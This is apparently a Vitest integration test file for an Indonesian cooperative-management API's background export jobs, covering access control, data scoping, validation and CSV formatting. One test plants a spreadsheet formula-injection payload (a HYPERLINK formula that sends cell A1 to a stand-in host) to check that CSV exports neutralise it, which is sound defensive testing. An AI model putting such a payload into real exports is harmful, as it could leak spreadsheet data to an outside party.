import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Api, DB_KINDS, DEWI_ID, startApi, TIRIS } from './harness.js';

/** Long exports as background jobs: POST /api/v1/exports, GET /api/v1/jobs/{id}, GET /api/v1/jobs/{id}/download. */
describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_000 }, (kind) => {
  let api: Api;
  let admin: string;
  let pimpinan: string;
  let petugas: string;
  let koperasi: string;
  let dewiName: string;

  beforeAll(async () => {
    api = await startApi(kind);
    admin = await api.login('admin');
    pimpinan = await api.login('pimpinan');
    petugas = await api.login('petugas.koperasi');
    koperasi = await api.login('dewirengganis');
    dewiName = (await api.req({ method: 'GET', url: `/api/v1/cooperatives/${DEWI_ID}`, cookie: admin })).json().name;
  });
  afterAll(() => api?.close());

  const start = (cookie: string, body: unknown) => api.req({ method: 'POST', url: '/api/v1/exports', cookie, body });

  async function finished(cookie: string, id: string) {
    for (let i = 0; i < 600; i++) {
      const job = (await api.req({ method: 'GET', url: `/api/v1/jobs/${id}`, cookie })).json();
      if (job.status !== 'running') return job;
      await new Promise((r) => setTimeout(r, 25));
    }
    throw new Error(`job ${id} did not finish`);
  }

  async function sheetRows(buf: Buffer): Promise<unknown[][]> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const rows: unknown[][] = [];
    // Title row, blank row, header row (3), then the data.
    ws.eachRow((r, n) => {
      if (n > 3) rows.push((r.values as unknown[]).slice(1));
    });
    return rows;
  }

  const csvLines = (text: string) =>
    text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');

  it('exports the filtered cooperative list as XLSX with progress and an Indonesian file name', async () => {
    const listed = (
      await api.req({ method: 'GET', url: `/api/v1/cooperatives?district=${TIRIS}&pageSize=1`, cookie: petugas })
    ).json().total as number;
    expect(listed).toBeGreaterThan(5);
    const res = await start(petugas, { list: 'cooperatives', format: 'xlsx', filters: { district: TIRIS } });
    expect(res.statusCode).toBe(202);
    expect(res.json()).toMatchObject({ kind: 'export-cooperatives', total: listed });
    const job = await finished(petugas, res.json().id);
    expect(job).toMatchObject({ status: 'done', processed: listed, total: listed, result: { rows: listed } });
    expect(job.result.filename).toMatch(/^daftar-koperasi-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const file = await api.req({ method: 'GET', url: `/api/v1/jobs/${job.id}/download`, cookie: petugas });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toMatch(/spreadsheetml/);
    expect(file.headers['content-disposition']).toContain(`filename="${job.result.filename}"`);
    const rows = await sheetRows(file.rawPayload);
    expect(rows).toHaveLength(listed);
    // Column 7 is Kecamatan: every row is in Tiris.
    expect(new Set(rows.map((r) => r[6]))).toEqual(new Set(['Tiris']));
  });

  it('lets only the owner or an admin read and download the job', async () => {
    const started = await start(petugas, { list: 'visits', format: 'csv', filters: { status: 'done' } });
    expect(started.statusCode).toBe(202);
    const id = started.json().id as string;
    await finished(petugas, id);
    for (const cookie of [pimpinan, koperasi]) {
      expect((await api.req({ method: 'GET', url: `/api/v1/jobs/${id}`, cookie })).statusCode).toBe(403);
      const refused = await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie });
      expect(refused.statusCode).toBe(403);
      expect(refused.json().error.message).toMatch(/milik pengguna lain/);
    }
    const byAdmin = await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie: admin });
    expect(byAdmin.statusCode).toBe(200);
    expect(byAdmin.headers['content-type']).toMatch(/text\/csv/);
    const unknown = await api.req({
      method: 'GET',
      url: '/api/v1/jobs/00000000-0000-4000-8000-000000000000/download',
      cookie: admin,
    });
    expect(unknown.statusCode).toBe(404);
  });

  it("gives a koperasi user only its own cooperative's rows, whatever filters it sends", async () => {
    const coops = await start(koperasi, { list: 'cooperatives', format: 'csv', filters: {} });
    expect(coops.statusCode).toBe(202);
    const done = await finished(koperasi, coops.json().id);
    expect(done.total).toBe(1);
    const csv = (await api.req({ method: 'GET', url: `/api/v1/jobs/${done.id}/download`, cookie: koperasi })).body;
    const lines = csvLines(csv);
    expect(lines[0]).toMatch(/^Nama koperasi;NIK;/);
    expect(lines.slice(1).map((l) => l.split(';')[0])).toEqual([dewiName]);

    // Visits with a district filter that is not its own still stay inside its cooperative.
    const allVisits = (await api.req({ method: 'GET', url: '/api/v1/visits?pageSize=1', cookie: admin })).json()
      .total as number;
    const visits = await start(koperasi, { list: 'visits', format: 'csv' });
    const vdone = await finished(koperasi, visits.json().id);
    const vlines = csvLines(
      (await api.req({ method: 'GET', url: `/api/v1/jobs/${vdone.id}/download`, cookie: koperasi })).body,
    ).slice(1);
    expect(vlines.length).toBeLessThan(allVisits);
    // Column 4 is Koperasi.
    for (const l of vlines) expect(l.split(';')[3]).toBe(dewiName);

    // Another cooperative's id as a filter is refused outright.
    const other = (
      await api.req({ method: 'GET', url: '/api/v1/cooperatives?group=KUD&pageSize=1', cookie: admin })
    ).json().items[0].id;
    const foreign = await start(koperasi, { list: 'followUps', format: 'xlsx', filters: { cooperativeId: other } });
    expect([403, 404]).toContain(foreign.statusCode);
    // The audit log is not for koperasi (nor petugas): refused at once, no job.
    expect((await start(koperasi, { list: 'audit', format: 'csv' })).statusCode).toBe(403);
    expect((await start(petugas, { list: 'audit', format: 'csv' })).statusCode).toBe(403);
  });

  it('exports the audit log for pimpinan, and assessments and concerns as CSV', async () => {
    const total = (
      await api.req({ method: 'GET', url: '/api/v1/audit?pageSize=1&entityType=cooperative', cookie: pimpinan })
    ).json().total as number;
    const id = (await start(pimpinan, { list: 'audit', format: 'xlsx', filters: { entityType: 'cooperative' } })).json()
      .id;
    const job = await finished(pimpinan, id);
    expect(job).toMatchObject({ status: 'done', total });
    expect(job.result.filename).toMatch(/^log-audit-/);
    const rows = await sheetRows(
      (await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie: pimpinan })).rawPayload,
    );
    expect(rows).toHaveLength(total);

    const finals = (
      await api.req({ method: 'GET', url: '/api/v1/assessments?status=FINAL&pageSize=1', cookie: admin })
    ).json().total as number;
    const a = await finished(
      admin,
      (await start(admin, { list: 'assessments', format: 'csv', filters: { status: 'FINAL' } })).json().id,
    );
    const alines = csvLines(
      (await api.req({ method: 'GET', url: `/api/v1/jobs/${a.id}/download`, cookie: admin })).body,
    );
    expect(alines).toHaveLength(finals + 1);

    const open = (
      await api.req({ method: 'GET', url: '/api/v1/concerns?status=open&pageSize=1', cookie: admin })
    ).json().total as number;
    const c = await finished(
      admin,
      (await start(admin, { list: 'concerns', format: 'csv', filters: { status: 'open' } })).json().id,
    );
    expect(c).toMatchObject({ status: 'done', total: open, result: { rows: open } });
  });

  it('answers 400 in Indonesian for an unknown list, format or filter, never 500', async () => {
    const badList = await start(admin, { list: 'kucing', format: 'xlsx' });
    expect(badList.statusCode).toBe(400);
    expect(badList.json().error.fields.list).toMatch(/Daftar tidak dikenal/);
    const badFormat = await start(admin, { list: 'visits', format: 'pdf' });
    expect(badFormat.statusCode).toBe(400);
    expect(badFormat.json().error.fields.format).toMatch(/Format harus xlsx atau csv/);
    const badFilter = await start(admin, { list: 'cooperatives', format: 'csv', filters: { status: 'HIDUP' } });
    expect(badFilter.statusCode).toBe(400);
    expect(Object.keys(badFilter.json().error.fields)).toEqual(['filters.status']);
    const unknownFilter = await start(admin, { list: 'followUps', format: 'csv', filters: { warna: 'merah' } });
    expect(unknownFilter.statusCode).toBe(400);
    expect(unknownFilter.json().error.fields['filters.warna']).toMatch(/tidak dikenal/);
    for (const body of [
      null,
      'x',
      [],
      { list: 'visits' },
      { list: 'visits', format: 'csv', filters: 'x' },
      { list: 'visits', format: 'csv', filters: { from: { a: 1 } } },
    ]) {
      const res = await start(admin, body);
      expect(res.statusCode, JSON.stringify(body)).toBe(400);
    }
  });
  it('neutralises formulas in CSV, writes decimal commas next to the semicolon, and keeps NIK as text', async () => {
    const planted = '=HYPERLINK("http://contoh.invalid/?d="&A1;"Klik di sini")';
    const made = await api.req({
      method: 'POST',
      url: '/api/v1/concerns',
      cookie: koperasi,
      body: { cooperativeId: DEWI_ID, kind: 'KELUHAN', topic: 'lainnya', description: planted, raisedBy: '@pengurus' },
    });
    expect(made.statusCode, made.body).toBe(201);
    const c = await finished(admin, (await start(admin, { list: 'concerns', format: 'csv' })).json().id);
    const text = (await api.req({ method: 'GET', url: `/api/v1/jobs/${c.id}/download`, cookie: admin })).body;
    expect(text).not.toMatch(/(^|;|\r\n)"?=HYPERLINK/);
    expect(text).toContain(`"'=HYPERLINK(""http://contoh.invalid/?d=""&A1;""Klik di sini"")"`);
    expect(text).toContain(";'@pengurus;");

    const dewi = (await api.req({ method: 'GET', url: `/api/v1/cooperatives/${DEWI_ID}`, cookie: admin })).json();
    expect(dewi.latitude).not.toBe(Math.round(dewi.latitude));
    const k = await finished(
      admin,
      (await start(admin, { list: 'cooperatives', format: 'csv', filters: { search: 'dewi rengganis' } })).json().id,
    );
    const lines = csvLines(
      (await api.req({ method: 'GET', url: `/api/v1/jobs/${k.id}/download`, cookie: admin })).body,
    );
    const header = lines[0]!.split(';');
    const row = lines[1]!.split(';');
    expect(row).toHaveLength(header.length);
    expect(row[header.indexOf('NIK')]).toBe(`"=""${dewi.nik}"""`);
    expect(row[header.indexOf('Lintang')]).toBe(String(dewi.latitude).replace('.', ','));
  });
});
